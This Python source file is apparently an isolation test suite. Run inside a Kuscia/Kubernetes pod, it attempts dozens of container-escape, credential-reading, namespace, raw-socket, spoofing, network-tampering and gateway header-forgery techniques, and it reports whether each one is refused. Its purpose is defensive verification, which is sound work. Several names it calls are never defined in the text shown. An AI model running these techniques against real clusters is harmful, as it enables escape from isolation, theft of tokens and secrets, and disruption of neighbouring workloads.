"""Runs inside a pod and tries to get out of it: standard library only, one line of JSON for each case.

    attack(input) ──> text: the attack succeeded, and this is what it got
                  └─> Refused or OSError: it did not, and this is why

Every case runs in a process of its own, with a limit of time. `controls` are what a pod may do: they must succeed, or the
refusals of the rest prove nothing. The text is a config template of an AppImage: no two opening braces may stand together.
"""

# ruff: noqa: UP031, UP032
from __future__ import annotations

import base64
import contextlib
import ctypes
import errno
import fcntl
import glob
import http.server
import json
import mmap
import os
import platform
import resource
import select
import signal
import socket
import ssl
import stat
import struct
import subprocess
import sys
import threading
import time

SECONDS = 8.0
"""For one case."""
SHORT = 1.0
"""For an answer that should not come."""


class Refused(Exception):
    pass


CASES = {}
"""Functions by name."""
P = {}
"""The input: addresses, paths and names of the machine."""


def errno_name(problem):
    return errno.errorcode.get(problem.errno or 0, type(problem).__name__)


def attempt(function):
    try:
        got = function()
        return ["succeeded", str(got)[:300]]
    except Refused as problem:
        return ["refused", str(problem)[:300]]
    except ssl.SSLError as problem:
        return ["refused", ("TLS: {}".format(problem))[:300]]
    except TimeoutError:
        return ["refused", "no answer"]
    except OSError as problem:
        return ["refused", "{}: {}".format(errno_name(problem), problem)]
    except Exception as problem:  # noqa: BLE001 - an attack that does not work as written proves nothing
        return ["broken", "{}: {}".format(type(problem).__name__, problem)]


LAST = "data mesh, delete the table"
"""Cases run side by side, but there is nothing to be tried on a table that is gone."""


def isolated(function):
    """In a child process."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read)
        result = ["broken", "ended early"]
        try:
            result = attempt(function)
        finally:
            with contextlib.suppress(OSError):
                os.write(write, json.dumps(result).encode())
            os._exit(0)
    os.close(write)
    data, deadline = b"", time.monotonic() + SECONDS
    while True:
        ready, _, _ = select.select([read], [], [], max(0.0, deadline - time.monotonic()))
        piece = os.read(read, 65536) if ready else b""
        if not piece:
            break
        data += piece
    os.close(read)
    with contextlib.suppress(ProcessLookupError):
        os.kill(pid, signal.SIGKILL)
    _, status = os.waitpid(pid, 0)
    if data:
        return json.loads(data)
    if time.monotonic() >= deadline:
        return ["refused", "no answer in %d s" % SECONDS]
    return ["refused", "killed by signal %d" % os.WTERMSIG(status)]


# ---- files ----


def read(path):
    with open(path, "rb") as file:
        return "{}: {!r}".format(path, file.read(64))


def write(path, text="x"):
    with open(path, "w") as file:
        file.write(text)
    return "wrote {}".format(path)


def list_directory(path):
    """What is there beyond what an environment of this image needs."""
    expected = set(P["expected"].get(path, ()))
    if P["kind"] == "engine" and path == "/home":
        expected.add("kuscia")  # the domain's data, which is for its own tasks
    found = set(os.listdir(path)) - expected
    if not found:
        raise Refused("nothing of the machine in {}".format(path))
    return "{} has {}".format(path, sorted(found))


def through_processes(kind):
    """The key by way of every process that can be seen."""
    found = []
    for process in glob.glob("/proc/[0-9]*"):
        for path in (path for label, path in P["files"].items() if label != "table"):
            place = "{}/{}/{}".format(process, kind, path.lstrip("/"))
            up = "{}/{}/{}{}".format(process, kind, "../" * 12, path.lstrip("/"))
            for each in (place, up):
                with contextlib.suppress(OSError):
                    found.append(read(each))
    if not found:
        raise Refused("no process leads to a file of the machine")
    return found


def descriptors(process):
    """Open files that lead anywhere but to pipes, /dev and the pod's own output."""
    found = []
    for link in glob.glob("/proc/{}/fd/*".format(process)):
        with contextlib.suppress(OSError):
            target = os.readlink(link)
            if target.startswith(("pipe:", "/dev/", "anon_inode:[pid", "anon_inode:[event")) or "/fd" in target:
                continue
            if stat.S_ISFIFO(os.stat(link).st_mode):
                continue  # to whoever writes this container's log
            found.append("{} -> {}".format(link, target))
    if not found:
        raise Refused("no descriptor of anybody else")
    return found


def file_cases():
    for label, path in P["files"].items():
        CASES["file " + label] = lambda path=path: read(path)
    for path in P["directories"]:
        CASES["list " + path] = lambda path=path: list_directory(path)
    key = P["files"]["own domain key"]
    CASES["file with dots"] = lambda: read("/usr/share/../.." + key)
    CASES["file by double slash"] = lambda: read("/" + key)
    CASES["file by planted link"] = lambda: read(linked(key))
    CASES["file by planted directory link"] = lambda: read(linked("/") + key)
    CASES["file by hard link"] = lambda: os.link(key, "/tmp/hard")
    CASES["hard link of an environment's file into a volume"] = hard_link_of_environment
    CASES["file by /proc/1/root"] = lambda: read("/proc/1/root" + key)
    CASES["file by /proc/*/root"] = lambda: through_processes("root")
    CASES["file by /proc/*/cwd"] = lambda: through_processes("cwd")
    CASES["file by /proc/self/root"] = lambda: read("/proc/self/root/.." + key)
    CASES["file by /proc/thread-self/root"] = lambda: read("/proc/thread-self/root/.." + key)
    CASES["inherited descriptors"] = lambda: INHERITED()
    CASES["descriptors of process 1"] = lambda: descriptors("1")
    CASES["file by handle of its name"] = lambda: name_to_handle(key)
    for label, path in P["read only"].items():
        CASES["write " + label] = lambda path=path: write(path)
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/kernel/hostname",
                 "/proc/sys/vm/drop_caches", "/proc/sys/fs/binfmt_misc/register", "/proc/sysrq-trigger",
                 "/proc/self/oom_score_adj", "/proc/sys/kernel/modprobe"):  # fmt: skip
        value = "-1000" if path.endswith("oom_score_adj") else "0"
        CASES["write " + path] = lambda path=path, value=value: write(path, value)
    CASES["write /sys cpu online"] = lambda: write("/sys/devices/system/cpu/cpu1/online", "1")
    CASES["control groups"] = control_groups
    CASES["read kernel memory by /proc/kcore"] = lambda: kernel_file("/proc/kcore")
    CASES["read kernel messages"] = lambda: kernel_file("/proc/kmsg")
    for name in P["devices"]:
        CASES["device /dev/" + name] = lambda name=name: opened("/dev/" + name)
    CASES["mknod memory"] = lambda: made_device(stat.S_IFCHR, 1, 1)
    CASES["mknod disk"] = lambda: made_device(stat.S_IFBLK, *P["disk"])
    CASES["mknod tun"] = lambda: made_device(stat.S_IFCHR, 10, 200)
    CASES["set-user-id program of one's own"] = own_set_user_id
    CASES["set-user-id mount"] = set_user_id_mount
    CASES["service account token"] = lambda: list_directory("/var/run/secrets/kubernetes.io/serviceaccount")
    CASES["service account token in /run"] = lambda: list_directory("/run/secrets")
    CASES["secrets in variables"] = secrets_in_variables


def linked(target):
    place = "/tmp/link-%d" % os.getpid()
    os.symlink(target, place)
    return place


def hard_link_of_environment():
    os.link(P["environment"], "/tmp/python")


def kernel_file(path):
    with open(path, "rb") as file:
        data = file.read(16)
    if not data:
        raise Refused("{} is empty here".format(path))
    return data


def opened(path):
    handle = os.open(path, os.O_RDWR)
    os.close(handle)
    return "opened " + path


def made_device(kind, major, minor):
    place = "/tmp/device-%d-%d" % (major, minor)
    os.mknod(place, kind | 0o600, os.makedev(major, minor))
    return opened(place)


def control_groups():
    for top in ("/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/unified", "/run/cgroup"):
        for name in ("cgroup.procs", "release_agent", "tasks", "cgroup.subtree_control"):
            with contextlib.suppress(OSError):
                return write("{}/{}".format(top, name), "0")
    os.listdir("/sys/fs/cgroup")
    return "there are control groups"


def own_set_user_id():
    """Root of the pod makes a shell that anybody would run as root; somebody else of the pod runs it."""
    place = "/tmp/own-id"
    with open("/usr/bin/id", "rb") as source, open(place, "wb") as target:
        target.write(source.read())
    os.chmod(place, 0o4755)
    with contextlib.suppress(OSError):
        os.setgroups([])
        os.setresgid(1000, 1000, 1000)
        os.setresuid(1000, 1000, 1000)
    before = os.geteuid()
    said = subprocess.run([place, "-u"], capture_output=True, text=True, timeout=5).stdout.strip()
    if said == str(before):
        raise Refused("still user {}".format(said))
    return "became user " + said


def set_user_id_mount():
    with contextlib.suppress(OSError):
        os.setgroups([])
        os.setresgid(1000, 1000, 1000)
        os.setresuid(1000, 1000, 1000)
    done = subprocess.run(["/usr/bin/mount", "-t", "tmpfs", "none", "/tmp"], capture_output=True, text=True, timeout=5)
    if done.returncode:
        raise Refused(done.stderr.strip())
    return "mounted"


def secrets_in_variables():
    found = [name for name in os.environ if "TOKEN" in name.upper() or "SECRET" in name.upper()]
    text = "\n".join(read_all("/proc/{}/environ".format(each)) for each in os.listdir("/proc") if each.isdigit())
    found += [label for label, value in P["secrets"].items() if base64.b64decode(value).decode() in text]
    if not found:
        raise Refused("none")
    return found


def read_all(path):
    try:
        with open(path, "rb") as file:
            return file.read().decode(errors="replace")
    except OSError:
        return ""


# ---- system calls ----

LIBC = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "x86_64": {
        "mount": 165, "umount2": 166, "pivot_root": 155, "unshare": 272, "setns": 308, "ptrace": 101, "bpf": 321,
        "process_vm_readv": 310, "process_vm_writev": 311, "name_to_handle_at": 303, "open_by_handle_at": 304,
        "perf_event_open": 298, "userfaultfd": 323, "keyctl": 250, "add_key": 248, "init_module": 175,
        "kexec_load": 246, "reboot": 169, "syslog": 103, "chroot": 161, "clock_settime": 227, "swapon": 167,
        "quotactl": 179, "acct": 163, "clone": 56, "sethostname": 170, "iopl": 172, "fanotify_init": 300,
    },
    "aarch64": {
        "mount": 40, "umount2": 39, "pivot_root": 41, "unshare": 97, "setns": 268, "ptrace": 117, "bpf": 280,
        "process_vm_readv": 270, "process_vm_writev": 271, "name_to_handle_at": 264, "open_by_handle_at": 265,
        "perf_event_open": 241, "userfaultfd": 282, "keyctl": 219, "add_key": 217, "init_module": 105,
        "kexec_load": 104, "reboot": 142, "syslog": 116, "chroot": 51, "clock_settime": 112, "swapon": 224,
        "quotactl": 60, "acct": 89, "clone": 220, "sethostname": 161, "fanotify_init": 262,
    },
}.get(platform.machine(), dict())  # fmt: skip
NUMBERS.update(
    open_tree=428, move_mount=429, fsopen=430, fsmount=432, mount_setattr=442, io_uring_setup=425, clone3=435,
    pidfd_getfd=438, pidfd_open=434, pidfd_send_signal=424,
)  # fmt: skip


def call(name, *arguments):
    """Its result; OSError, whatever the kernel or a filter says."""
    if name not in NUMBERS:
        raise Refused("there is no {} on this machine".format(name))
    made = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = LIBC.syscall(ctypes.c_long(NUMBERS[name]), *made)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, "{}: {}".format(name, os.strerror(number)))
    return result


NEWNS, NEWUSER, NEWNET, NEWPID = 0x20000, 0x10000000, 0x40000000, 0x20000000


def name_to_handle(path):
    handle, mount = ctypes.create_string_buffer(136), ctypes.c_int()
    struct.pack_into("=I", handle, 0, 128)
    return call("name_to_handle_at", -100, path.encode(), handle, ctypes.byref(mount), 0)


def open_by_handle():
    """The root of the file system that /usr is on, as escapes from containers do it."""
    handle = ctypes.create_string_buffer(struct.pack("=IiQ", 8, 1, 2))
    mount = os.open("/usr", os.O_RDONLY)
    return "opened inode 2 as %d" % call("open_by_handle_at", mount, handle, os.O_RDONLY)


def cloned(flags):
    pid = call("clone", flags | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "cloned"


def clone3():
    arguments = ctypes.create_string_buffer(struct.pack("=11Q", NEWUSER, 0, 0, 0, signal.SIGCHLD, *[0] * 6))
    pid = call("clone3", arguments, 88)
    if pid == 0:
        os._exit(0)
    return "cloned"


def joined(process, name):
    handle = os.open("/proc/{}/ns/{}".format(process, name), os.O_RDONLY)
    return call("setns", handle, 0)


def read_memory():
    local = ctypes.create_string_buffer(16)
    vector = struct.pack("=QQ", ctypes.addressof(local), 16)
    return call("process_vm_readv", 1, vector, 1, vector, 1, 0)


def pidfd_signal():
    handle = call("pidfd_open", P["node pid"], 0)
    return call("pidfd_send_signal", handle, 0, 0, 0)


def pidfd_getfd():
    return call("pidfd_getfd", call("pidfd_open", 1, 0), 0, 0)


def visible_processes():
    """Of anybody else: this container has its init, the probe and the probe's children."""
    others = []
    for each in os.listdir("/proc"):
        if each.isdigit():
            words = "\0".join(read_all("/proc/{}/cmdline".format(each)).split("\0")[:2])
            if any(word in words for word in ("envoy", "supervisor", "-m")):
                others.append(words.replace("\0", " "))
    if not others:
        raise Refused("only its own")
    return others


def signal_process(pid, number=0):
    os.kill(pid, number)
    return "signalled %d" % pid


def raised_files():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard + 1, hard + 1))
    except ValueError as problem:
        raise Refused(str(problem)) from problem
    return "%d files" % (hard + 1)


def many_files():
    """More than one process may have."""
    resource.setrlimit(resource.RLIMIT_NOFILE, resource.getrlimit(resource.RLIMIT_NOFILE)[:1] * 2)
    kept = []
    while len(kept) < 2_000_000:
        kept.append(os.dup(1))
    return "%d open files" % len(kept)


def shared_memory():
    text = read_all("/proc/sysvipc/shm").splitlines()[1:]
    if not text:
        raise Refused("no segment of anybody else")
    return text


def real_time():
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))
    return "real time"


def process_cases():
    buffer = ctypes.create_string_buffer(64)
    CASES["mount tmpfs"] = lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, b"")
    CASES["mount bind of /proc/1/root"] = lambda: call("mount", b"/proc/1/root", b"/tmp", b"", 4096, b"")
    CASES["mount proc"] = lambda: call("mount", b"proc", b"/tmp", b"proc", 0, b"")
    CASES["mount of the machine's disk"] = lambda: call("mount", b"/dev/root", b"/tmp", b"ext4", 0, b"")
    CASES["remount /usr writable"] = lambda: call("mount", b"none", b"/usr", b"", 32 | 4096, b"")
    CASES["unmount /proc/sys"] = lambda: call("umount2", b"/proc/sys", 2)
    CASES["unmount /tmp"] = lambda: call("umount2", b"/tmp", 2)
    CASES["fsopen"] = lambda: call("fsopen", b"tmpfs", 0)
    CASES["open_tree"] = lambda: call("open_tree", -100, b"/usr", 1)
    CASES["mount_setattr"] = lambda: call("mount_setattr", -100, b"/usr", 0, struct.pack("=QQQQ", 0, 1, 0, 0), 32)
    CASES["pivot_root"] = lambda: call("pivot_root", b"/tmp", b"/tmp")
    CASES["chroot"] = lambda: call("chroot", b"/tmp")
    CASES["unshare user and mount"] = lambda: call("unshare", NEWUSER | NEWNS)
    CASES["unshare network"] = lambda: call("unshare", NEWNET)
    CASES["clone into a user namespace"] = lambda: cloned(NEWUSER)
    CASES["clone into a mount namespace"] = lambda: cloned(NEWNS)
    CASES["clone3 into a user namespace"] = clone3
    for name in ("net", "mnt", "user", "pid", "ipc", "uts", "cgroup"):
        CASES["setns " + name] = lambda name=name: joined("1", name)
    CASES["open_by_handle_at"] = open_by_handle
    CASES["ptrace process 1"] = lambda: call("ptrace", 16, 1, 0, 0)
    CASES["process_vm_readv"] = read_memory
    CASES["pidfd_getfd"] = pidfd_getfd
    CASES["bpf"] = lambda: call("bpf", 0, buffer, 48)
    CASES["perf_event_open"] = lambda: call("perf_event_open", buffer, 0, -1, -1, 0)
    CASES["userfaultfd"] = lambda: call("userfaultfd", 0)
    CASES["io_uring"] = lambda: call("io_uring_setup", 1, ctypes.create_string_buffer(120))
    CASES["keyrings"] = lambda: call("add_key", b"user", b"x", b"y", 1, -3)
    CASES["load a module"] = lambda: call("init_module", buffer, 64, b"")
    CASES["kexec"] = lambda: call("kexec_load", 0, 0, 0, 0)
    CASES["reboot"] = lambda: call("reboot", 0xFEE1DEAD - (1 << 32), 0x28121969, 0)
    CASES["kernel log"] = lambda: call("syslog", 3, buffer, 64)
    CASES["set the clock"] = lambda: call("clock_settime", 0, struct.pack("=qq", 1, 0))
    CASES["host name"] = lambda: call("sethostname", b"alice", 5)
    CASES["real time priority"] = real_time
    CASES["better priority"] = lambda: os.setpriority(os.PRIO_PROCESS, 0, -20) or "nice -20"
    CASES["more open files than the limit"] = many_files
    CASES["raise the limit of open files"] = raised_files
    CASES["see other processes"] = visible_processes
    CASES["signal the node"] = lambda: signal_process(P["node pid"])
    CASES["kill another pod"] = lambda: signal_process(P["victim pid"], signal.SIGKILL)
    CASES["signal by pidfd"] = pidfd_signal
    CASES["memory of the node"] = lambda: read("/proc/%d/mem" % P["node pid"])
    CASES["variables of the node"] = lambda: read("/proc/%d/environ" % P["node pid"])
    CASES["shared memory of the machine"] = shared_memory


# ---- network ----


def connected(host, port, *options, device="", source="", timeout=SHORT, family=socket.AF_INET):
    made = socket.socket(family, socket.SOCK_STREAM)
    made.settimeout(timeout)
    for level, name, value in options:
        made.setsockopt(level, name, value)
    if device:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
    if source:
        made.bind((source, 0))
    made.connect((host, port))
    return made


def reached(host, port, *options, **more):
    with connected(host, port, *options, **more) as made:
        banner = b""
        with contextlib.suppress(OSError):
            banner = made.recv(64)
    return "%s:%d accepted, said %r" % (host, port, banner)


def banner_of(host, port, word):
    """Whether there, in whatever network this is, stands the one that says `word`."""
    with connected(host, port) as made:
        made.sendall(b"GET / HTTP/1.0\r\n\r\n")
        said = b""
        while piece := made.recv(4096):
            said += piece
    if word.encode() not in said:
        raise Refused("somebody else answered: {!r}".format(said))
    return said


def datagram(host, port, *options, source="", answer=True):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(SHORT)
        for level, name, value in options:
            made.setsockopt(level, name, value)
        if source:
            made.bind((source, 0))
        made.sendto(b"hello", (host, port))
        return made.recvfrom(64) if answer else "sent"


def ping(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as made:
        made.settimeout(SHORT)
        made.sendto(struct.pack(">BBHHH", 8, 0, 0xF7FF - 1, 1, 0), (host, 0))
        return made.recvfrom(64)


def scanned():
    """Neighbours: whoever answers on the port of engines or of the victim, except this pod itself."""
    own = socket.gethostbyname(socket.gethostname())
    prefix = ".".join(P["gateway"].split(".")[:2])
    addresses = ["%s.%d.%d" % (prefix, half, last) for half in (0, 128) for last in range(0, 24)]
    begun = []
    for address in addresses:
        if address not in (own, P["gateway"]):
            for port in (P["victim"]["port"], P["engine victim"]["port"], 22, 10250):
                made = socket.socket()
                made.setblocking(False)
                made.connect_ex((address, port))
                begun.append((made, address, port))
    time.sleep(2)
    _, ready, _ = select.select([], [each[0] for each in begun], [], 0)
    found = [
        each[1:] for each in begun if each[0] in ready and not each[0].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
    ]
    if not found:
        raise Refused("nobody")
    return found


def raw(family, kind, protocol):
    socket.socket(family, kind, protocol).close()
    return "opened"


FREEBIND, TRANSPARENT = 15, 19


def forged(*options):
    """As the victim, to the gateway."""
    with connected(P["gateway"], 80, *options, source=P["victim"]["address"]) as made:
        made.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return made.recv(64)


def forged_datagram():
    """A question to the resolver that claims to come from the victim, and one to the victim's own port."""
    return datagram(P["gateway"], 53, (socket.SOL_IP, FREEBIND, 1), source=P["victim"]["address"])


def netlink(protocol, kind, flags, body):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as made:
        made.settimeout(SHORT)
        made.bind((0, 0))
        made.send(struct.pack("=IHHII", 16 + len(body), kind, flags | 5, 1, 0) + body)
        answer = made.recv(65536)
    _, kind, _, _, _ = struct.unpack_from("=IHHII", answer)
    number = -struct.unpack_from("=i", answer, 16)[0] if kind == 2 else 0
    if number:
        raise OSError(number, os.strerror(number))
    return "done"


def attribute(kind, data):
    size = 4 + len(data)
    return struct.pack("=HH", size, kind) + data + b"\0" * (-size % 4)


def index():
    return socket.if_nametoindex("eth0")


def new_address():
    packed = socket.inet_aton(P["victim"]["address"])
    body = struct.pack("=BBBBi", 2, 32, 0, 0, index()) + attribute(2, packed) + attribute(1, packed)
    return netlink(0, 20, 0x400, body)


def new_route():
    body = struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 253, 1, 0)
    body += attribute(1, socket.inet_aton("127.0.0.9")) + attribute(4, struct.pack("=i", index()))
    return netlink(0, 24, 0x400, body)


def new_neighbour():
    body = struct.pack("=BxHiHBB", 2, 0, index(), 0x80, 0, 1)
    body += attribute(1, socket.inet_aton(P["victim"]["address"])) + attribute(2, b"\2\0\0\0\0\7")
    return netlink(0, 28, 0x400, body)


def delete_link():
    return netlink(0, 17, 0, struct.pack("=BxHiII", 0, 0, index(), 0, 0))


def rename_link():
    return netlink(0, 16, 0, struct.pack("=BxHiII", 0, 0, index(), 0, 1) + attribute(1, b"\2\0\0\0\0\7"))


def new_table():
    """nftables: a batch with one new table."""

    def part(kind, flags, body, res=0, family=0):
        return struct.pack("=IHHII", 20 + len(body), kind, flags, 1, 0) + struct.pack("=BBH", family, 0, res) + body

    batch = part(16, 1, b"", socket.htons(10)) + part(10 << 8, 0x405, attribute(1, b"evil\0"), 0, 1)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as made:
        made.settimeout(SHORT)
        made.bind((0, 0))
        made.send(batch + part(17, 1, b"", socket.htons(10)))
        answer = made.recv(65536)
    number = -struct.unpack_from("=i", answer, 16)[0]
    if number:
        raise OSError(number, os.strerror(number))
    return "a table"


def interface_down():
    with socket.socket() as made:
        fcntl.ioctl(made, 0x8914, struct.pack("=16sH22x", b"eth0", 0))
    return "eth0 is down"


def arp_entry():
    request = struct.pack("=H2x4s8xH6s8xI16x16s", 2, socket.inet_aton("169.254.1.1"), 1, b"\2\0\0\0\0\7", 2, b"eth0")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        fcntl.ioctl(made, 0x8955, request.ljust(68, b"\0"))
    return "an entry"


def unix(path):
    with socket.socket(socket.AF_UNIX) as made:
        made.settimeout(SHORT)
        made.connect(path)
    return "connected to {!r}".format(path)


def vsock(cid, port):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as made:
        made.settimeout(SHORT)
        made.connect((cid, port))
    return "connected"


def family(number, kind=socket.SOCK_STREAM):
    try:
        socket.socket(number, kind).close()
    except OSError as problem:
        raise Refused(errno_name(problem)) from problem
    return "a socket of family %d" % number


def network_cases():
    for label, (host, port) in P["ports"].items():
        CASES["port " + label] = lambda host=host, port=port: reached(host, port)
    for label in ("machine loopback", "own API"):
        host, port = P["ports"][label]
        CASES["port {} by eth0".format(label)] = lambda host=host, port=port: reached(host, port, device="eth0")
    victim, engine = P["victim"], P["engine victim"]
    CASES["ordinary pod"] = lambda: reached(victim["address"], victim["port"])
    CASES["ordinary pod, UDP"] = lambda: datagram(victim["address"], victim["port"])
    CASES["ordinary pod, ping"] = lambda: ping(victim["address"])
    CASES["engine of another task"] = lambda: reached(engine["address"], engine["port"])
    CASES["engine of another task, ping"] = lambda: ping(engine["address"])
    CASES["scan of neighbours"] = scanned
    for label, (address, port, word) in P["other network"].items():
        CASES["other domain's " + label] = lambda address=address, port=port, word=word: banner_of(address, port, word)
    broadcast = (socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    CASES["broadcast"] = lambda: datagram("255.255.255.255", victim["port"], broadcast)
    prefix = P["gateway"].rsplit(".", 2)[0]
    CASES["directed broadcast"] = lambda: datagram(prefix + ".255.255", victim["port"], broadcast)
    CASES["multicast"] = lambda: datagram("224.0.0.1", victim["port"])
    CASES["multicast to name servers"] = lambda: datagram("224.0.0.251", 5353)
    CASES["raw ICMP"] = lambda: raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    CASES["raw TCP"] = lambda: raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    CASES["raw IP"] = lambda: raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    CASES["packets"] = lambda: raw(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    CASES["packets of ARP"] = lambda: raw(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x806))
    CASES["forged source, IP_FREEBIND"] = lambda: forged((socket.SOL_IP, FREEBIND, 1))
    CASES["forged source, IP_TRANSPARENT"] = lambda: forged((socket.SOL_IP, TRANSPARENT, 1))
    CASES["forged source, UDP"] = forged_datagram
    CASES["forged source to a pod"] = lambda: datagram(
        victim["address"], victim["port"], (socket.SOL_IP, FREEBIND, 1), source=P["gateway"]
    )
    CASES["the gateway's own address"] = lambda: reached(
        victim["address"], victim["port"], (socket.SOL_IP, FREEBIND, 1), source=P["gateway"]
    )
    CASES["IPv6 loopback"] = lambda: reached("::1", P["ports"]["machine loopback"][1], family=socket.AF_INET6)
    CASES["IPv6 link"] = lambda: datagram6("ff02::1%eth0")
    CASES["IPv4 in IPv6 to the API"] = lambda: reached(
        "::ffff:" + P["ports"]["own API"][0], P["ports"]["own API"][1], family=socket.AF_INET6
    )
    CASES["new address"] = new_address
    CASES["new route"] = new_route
    CASES["new neighbour"] = new_neighbour
    CASES["delete eth0"] = delete_link
    CASES["another MAC address"] = rename_link
    CASES["nftables"] = new_table
    CASES["eth0 down"] = interface_down
    CASES["entry of ARP"] = arp_entry
    CASES["abstract socket of the machine"] = lambda: unix("\0" + P["abstract"])
    for label, path in P["sockets"].items():
        CASES["socket " + label] = lambda path=path: unix(path)
    for cid in (0, 1, 2):
        CASES["vsock %d" % cid] = lambda cid=cid: vsock(cid, P["vsock port"])
    for label, number in (("vsock", 40), ("bluetooth", 31), ("tipc", 30), ("can", 29), ("alg", 38), ("qipcrtr", 42)):
        CASES["family " + label] = lambda number=number: family(number, 5 if number in (30, 38) else 1)


def datagram6(host):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as made:
        made.settimeout(SHORT)
        made.sendto(b"x", socket.getaddrinfo(host, 5353, socket.AF_INET6, socket.SOCK_DGRAM)[0][4])
        return made.recvfrom(64)


# ---- the gateway ----


def exchange(data, host="", port=80, timeout=4.0):
    """Bytes to the gateway; all that comes back."""
    with connected(host or P["gateway"], port, timeout=timeout) as made:
        made.sendall(data)
        answer = b""
        with contextlib.suppress(OSError):
            while piece := made.recv(65536):
                answer += piece
    return answer


def judged(answer):
    """Only what an own refusal of the gateway looks like is one; the log must agree."""
    line = answer.split(b"\r\n", 1)[0].decode(errors="replace")
    status = line.split(" ")[1] if line.startswith("HTTP/1.") else ""
    if not answer:
        raise Refused("connection closed")
    if status in ("400", "403", "404", "405", "421", "426", "501"):
        raise Refused(line)
    return answer[:200]


def request(host, path, method="GET", version="HTTP/1.1", body=b"", **headers):
    lines = ["{} {} {}".format(method, path, version)]
    if host is not None:
        lines.append("Host: " + host)
    lines += ["{}: {}".format(name.replace("_", "-"), value) for name, value in headers.items()]
    lines += ["Connection: close"] if "Connection" not in headers else []
    lines += ["Content-Length: %d" % len(body)] if body else []
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def asked(host, name, path="", **more):
    return judged(exchange(request(host, (path or "/api/v1/namespaces/alice/secrets") + mark(name), **more)))


def mark(name):
    """In the log, which has no more than the path."""
    return "?case={}.{}".format(P["kind"], name.replace(" ", "-").replace(",", ""))


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def http2(*headers):
    """One request in HTTP/2 with prior knowledge; the first header block of the answer."""
    block = b"".join(literal(name, value) for name, value in headers)
    data = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 5, 1, block)
    with connected(P["gateway"], 80, timeout=3.0) as made:
        made.sendall(data)
        buffer = b""
        while True:
            while len(buffer) < 9 or len(buffer) < 9 + int.from_bytes(buffer[:3], "big"):
                piece = made.recv(65536)
                if not piece:
                    raise Refused("connection closed")
                buffer += piece
            size, kind, payload = int.from_bytes(buffer[:3], "big"), buffer[3], buffer[9:]
            if kind == 1:
                # :status 200, 204, 206 and 500 stand in HPACK's table; what an upstream refuses is told by the log.
                if payload[:1] in (b"\x88", b"\x89", b"\x8a", b"\x8e"):
                    made.settimeout(SHORT)
                    with contextlib.suppress(OSError):
                        payload += made.recv(65536)
                    if b"engine of bob" in payload or b"pod of alice" in payload:
                        raise Refused("the one who may be called answered")
                    return "HTTP/2 answer {!r}".format(payload[:64])
                raise Refused("HTTP/2 answer {!r}".format(payload[:16]))
            if kind in (3, 7):
                raise Refused("HTTP/2 frame %d" % kind)
            buffer = buffer[9 + size :]


def http2_request(authority, name, *more, method="GET"):
    path = "/api/v1/namespaces/alice/secrets" + mark(name)
    return http2((":method", method), (":scheme", "http"), (":path", path), (":authority", authority), *more)


API = "apiserver.master.svc"


def gateway_cases():
    for label, host in P["hosts"].items():
        CASES["call " + label] = lambda label=label, host=host: asked(host, "call " + label)
    for name in ("apiserver", "kusciaapi", "kuscia-handshake"):
        for label, spelling in (
            ("upper case", "{}.MASTER.SVC".format(name.upper())),
            ("trailing dot", "{}.master.svc.".format(name)),
            ("port", "{}.master.svc:80".format(name)),
            ("other port", "{}.master.svc:6443".format(name)),
            ("short", name),
            ("short with port", name + ":80"),
            ("short with dot", name + "."),
            ("cluster.local", "{}.alice.svc.cluster.local".format(name)),
            ("user", "x@{}.master.svc".format(name)),
        ):
            title = "spelling {}, {}".format(name, label)
            CASES[title] = lambda title=title, spelling=spelling: asked(spelling, title)
    forged_headers = dict(
        Kuscia_Source="alice", Kuscia_Origin_Source="alice", Kuscia_Host=API, Kuscia_Token="x", X_Coterie_Caller="node",
        X_Forwarded_For="127.0.0.1", X_Real_IP=P["gateway"], Forwarded="for=127.0.0.1", X_Forwarded_Host=API,
        X_Coterie_Peer_Fingerprint="0", X_Envoy_Original_Dst_Host=":".join(map(str, P["ports"]["own API"])),
        X_Envoy_Internal="true", X_Envoy_Original_Path="/",
    )  # fmt: skip
    CASES["forged headers"] = lambda: asked(API, "forged headers", **forged_headers)
    CASES["forged headers to the API"] = lambda: asked(
        "apiserver.alice.svc", "forged headers to the API", **forged_headers
    )
    CASES["Kuscia-Host with an allowed Host"] = lambda: never_reached(
        asked_allowed("Kuscia-Host with an allowed Host", **forged_headers)
    )
